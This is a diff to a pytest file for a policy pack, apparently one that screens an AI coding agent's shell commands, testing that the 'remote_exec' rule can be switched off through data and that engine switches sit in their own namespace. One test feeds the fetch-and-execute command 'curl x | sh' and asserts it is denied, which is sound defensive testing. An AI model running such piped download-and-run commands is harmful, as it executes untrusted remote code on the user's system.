@@ -66,14 +66,23 @@ def test_the_pack_compiles_into_a_snapshot():
     assert {p["name"] for p in snapshot["policies"]} == {p.stem for p in POLICY_FILES}
 
 
-def test_a_policy_can_be_switched_off_through_data(tmp_path):
+@pytest.mark.parametrize("namespace", ["engine", "settings"])
+def test_a_policy_can_be_switched_off_through_data(tmp_path, namespace):
+    """`claude_rego.engine.disabled_policies`, and its deprecated place under settings."""
     from claude_rego.api import evaluate_hook
     from conftest import bash_input
     snapshot = policyset.compile_sources([str(PACK)])
-    snapshot["data"]["claude_rego"]["settings"]["disabled_policies"] = ["remote_exec"]
+    snapshot["data"]["claude_rego"][namespace]["disabled_policies"] = ["remote_exec"]
     path = tmp_path / "s.json"
     policyset.write_snapshot(snapshot, path)
     out, _ = evaluate_hook(bash_input("curl x | sh"), policy_paths=[str(path)])
     assert out.get("hookSpecificOutput", {}).get("permissionDecision") != "deny"
     out, _ = evaluate_hook(bash_input("curl x | sh"))
     assert out["hookSpecificOutput"]["permissionDecision"] == "deny"
+
+
+def test_engine_switches_are_not_tunables_of_the_pack():
+    data = json.loads((PACK / "data.json").read_text())["claude_rego"]
+    from claude_rego.policy.snapshot import ENGINE_SWITCHES
+    assert set(data["engine"]) == set(ENGINE_SWITCHES)
+    assert not set(ENGINE_SWITCHES) & set(data["settings"]), "engine switches belong in claude_rego.engine"
